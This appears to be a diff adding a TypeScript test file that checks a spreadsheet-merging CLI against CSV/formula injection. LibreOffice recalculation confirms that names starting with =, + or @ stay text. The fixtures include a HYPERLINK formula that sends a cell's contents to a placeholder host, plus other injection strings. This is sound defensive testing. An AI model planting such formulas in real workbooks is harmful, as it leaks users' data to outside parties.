@@ -1,0 +1,122 @@
+/**
+ * Issue 15 item 1: text from a unit's file or the command line that starts like a formula lands
+ * in the merged and template workbooks as text. LibreOffice (headless) recalculates every formula
+ * on load; a live formula would show its result ("Bấm", 5), a text shows itself.
+ */
+import { execFileSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import ExcelJS from "exceljs";
+import { parseCsv } from "../../src/cli/csv";
+import { mergeFiles } from "../../src/cli/merge";
+import { sheetPlanWorkbook } from "../../src/cli/xlsx-write";
+import { DEFAULT_SETTINGS } from "../../src/core/model";
+import { templateSheet } from "../../src/core/templates";
+import { run } from "./helpers";
+
+const work = mkdtempSync(path.join(tmpdir(), "chitieu-inj-"));
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+
+const HYPERLINK = '=HYPERLINK("http://x.example/?x="&E2,"Bấm")';
+const SUM = "+2+3";
+const AT = "@SUM(1,1)";
+
+function recalculated(xlsx: string): (string | null)[][] {
+  const profile = path.join(work, "profile");
+  mkdirSync(path.join(profile, "user"), { recursive: true });
+  writeFileSync(
+    path.join(profile, "user", "registrymodifications.xcu"),
+    `<?xml version="1.0" encoding="UTF-8"?>
+<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
+<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
+</oor:items>
+`,
+  );
+  const out = path.join(work, `lo-${path.basename(xlsx, ".xlsx")}`);
+  mkdirSync(out, { recursive: true });
+  execFileSync(
+    "soffice",
+    [
+      "--headless",
+      "--norestore",
+      `-env:UserInstallation=file://${profile}`,
+      "--convert-to",
+      "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false",
+      "--outdir",
+      out,
+      xlsx,
+    ],
+    { stdio: "pipe", timeout: 180_000 },
+  );
+  return parseCsv(readFileSync(path.join(out, `${path.basename(xlsx, ".xlsx")}.csv`), "utf8"), ",").rows;
+}
+
+/** Cells ExcelJS reads back as formulas: must be only the ones core generated (SUM, IFERROR, …). */
+async function formulaTexts(file: string): Promise<string[]> {
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.readFile(file);
+  const found: string[] = [];
+  wb.worksheets[0]!.eachRow((row) =>
+    row.eachCell((cell) => {
+      if (cell.type === ExcelJS.ValueType.Formula) found.push(String(cell.formula));
+    }),
+  );
+  return found;
+}
+
+async function unitFile(name: string, unitLine: string, indicator: string, group: string): Promise<string> {
+  const plan = templateSheet("trong", { settings: DEFAULT_SETTINGS, year: 2021, unitName: unitLine });
+  const workbook = sheetPlanWorkbook(plan);
+  const sheet = workbook.worksheets[0]!;
+  const { columns, firstDataRow } = plan.layout;
+  const rows: [string, string, number, number, number][] = [
+    [indicator, "doanh nghiệp", 50, 61, 48],
+    ["Thu ngân sách", "tỷ đồng", 120.5, 131.25, 110],
+  ];
+  // 1-based rows: firstDataRow + 1 is the first data row.
+  sheet.getCell(firstDataRow + 1, columns.name! + 1).value = group;
+  sheet.getCell(firstDataRow + 1, columns.stt! + 1).value = "I";
+  rows.forEach(([ind, unit, kh, th, ck], i) => {
+    const r = firstDataRow + i + 2;
+    sheet.getCell(r, columns.stt! + 1).value = i + 1;
+    sheet.getCell(r, columns.name! + 1).value = ind;
+    sheet.getCell(r, columns.unit! + 1).value = unit;
+    sheet.getCell(r, columns.plan! + 1).value = kh;
+    sheet.getCell(r, columns.actual! + 1).value = th;
+    sheet.getCell(r, columns.prior! + 1).value = ck;
+  });
+  const file = path.join(work, `${name}.xlsx`);
+  await workbook.xlsx.writeFile(file);
+  return file;
+}
+
+test("a merged workbook keeps formula-like names, groups and unit names as text after LibreOffice recalculates", async () => {
+  const a = await unitFile("a", "Đơn vị: =1+1", HYPERLINK, SUM);
+  const b = await unitFile("b", "Đơn vị: Phường 2", HYPERLINK, SUM);
+  const out = path.join(work, "tong-hop.xlsx");
+  await mergeFiles([a, b], out, DEFAULT_SETTINGS, "vi");
+
+  const formulas = await formulaTexts(out);
+  expect(formulas.length).toBeGreaterThan(0);
+  expect(formulas.filter((f) => /HYPERLINK|^2\+3|@/.test(f))).toEqual([]);
+
+  const lo = recalculated(out).flat();
+  expect(lo).toContain(HYPERLINK);
+  expect(lo).toContain(SUM);
+  expect(lo).not.toContain("Bấm");
+}, 240_000);
+
+test("a template's --unit and a person's name starting with =, + or @ stay text in LibreOffice", async () => {
+  const out = path.join(work, "mau.xlsx");
+  const r = await run("template", "trong", "--unit", "=2+3", "--out", out);
+  expect(r.code).toBe(0);
+  const plan = templateSheet("trong", { settings: DEFAULT_SETTINGS, year: 2021, unitName: AT });
+  const atFile = path.join(work, "mau-at.xlsx");
+  await sheetPlanWorkbook(plan).xlsx.writeFile(atFile);
+
+  expect((await formulaTexts(out)).filter((f) => f === "2+3")).toEqual([]);
+  const lo = recalculated(out);
+  expect(lo[1]?.[0]).toBe("=2+3");
+  expect(recalculated(atFile)[1]?.[0]).toBe(AT);
+}, 240_000);
